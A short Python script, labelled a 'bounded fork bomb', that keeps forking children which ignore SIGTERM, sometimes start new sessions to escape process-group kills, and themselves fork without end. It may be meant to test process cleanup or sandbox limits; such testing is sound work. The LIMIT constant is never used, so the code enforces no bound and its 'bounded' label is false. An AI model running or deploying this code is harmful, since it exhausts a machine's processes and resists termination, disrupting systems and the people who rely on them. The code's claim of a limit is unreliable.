"""A bounded fork bomb: every process makes children that make children, in old groups and new ones."""

import os
import signal
import time

LIMIT = 40  # alive at a time, below one parent


def swarm(depth: int) -> None:
    while True:
        for _ in range(3):
            if os.fork() == 0:
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                if depth % 2:
                    os.setsid()
                if depth < 3:
                    swarm(depth + 1)
                os._exit(0)
        time.sleep(0.002)
        try:
            while os.waitpid(-1, os.WNOHANG)[0]:
                pass
        except ChildProcessError:
            pass


if __name__ == "__main__":
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    os.setpriority(os.PRIO_PROCESS, 0, 10)
    print("going", flush=True)
    swarm(2)
